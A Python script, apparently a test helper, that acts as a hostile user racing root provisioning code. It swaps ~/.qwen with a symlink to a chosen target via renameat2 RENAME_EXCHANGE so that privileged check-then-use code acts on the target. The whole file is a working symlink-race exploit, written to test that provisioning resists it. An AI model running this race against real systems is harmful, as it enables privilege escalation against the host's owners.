"""A hostile user's side of the symlink race: run as that user, it swaps the user's real ~/.qwen with a symbolic
link to TARGET as fast as renameat2(RENAME_EXCHANGE) allows, and keeps the real directory at mode 0755 (so that a
provisioning run always finds a mode to fix, and acts on the path). Root code that checks the path and then uses it
by name hits TARGET sooner or later.

    python3 swap_attack.py HOME TARGET [SECONDS]     (stops after SECONDS, default 600, or when killed)

Prints "ready" once the loop runs, and the number of swaps when it stops. Standard library only (runs on the
managed hosts of the tests).
"""
import ctypes
import os
import signal
import sys
import time

AT_FDCWD = -100
RENAME_EXCHANGE = 2


def main():
    home, target = sys.argv[1], sys.argv[2]
    seconds = float(sys.argv[3]) if len(sys.argv) > 3 else 600
    libc = ctypes.CDLL(None, use_errno=True)
    renameat2 = libc.renameat2
    os.chdir(home)
    if not os.path.isdir(".qwen") or os.path.islink(".qwen"):
        if os.path.lexists(".qwen"):
            os.unlink(".qwen")
        os.mkdir(".qwen")
    if os.path.lexists(".qwen-swap"):
        os.unlink(".qwen-swap")
    os.symlink(target, ".qwen-swap")
    real = os.open(".qwen", os.O_RDONLY | os.O_DIRECTORY)
    stop = []
    signal.signal(signal.SIGTERM, lambda *args: stop.append(1))
    swaps, deadline = 0, time.time() + seconds
    print("ready", flush=True)
    while not stop and time.time() < deadline:
        for _swap in range(200):
            if renameat2(AT_FDCWD, b".qwen", AT_FDCWD, b".qwen-swap", RENAME_EXCHANGE) != 0:
                raise OSError(ctypes.get_errno(), "renameat2")
            os.fchmod(real, 0o755)
            swaps += 1
    # Leave the real directory in place, as a user would after the attack.
    if os.path.islink(".qwen"):
        renameat2(AT_FDCWD, b".qwen", AT_FDCWD, b".qwen-swap", RENAME_EXCHANGE)
    os.unlink(".qwen-swap")
    print("swaps %d" % swaps, flush=True)


if __name__ == "__main__":
    main()
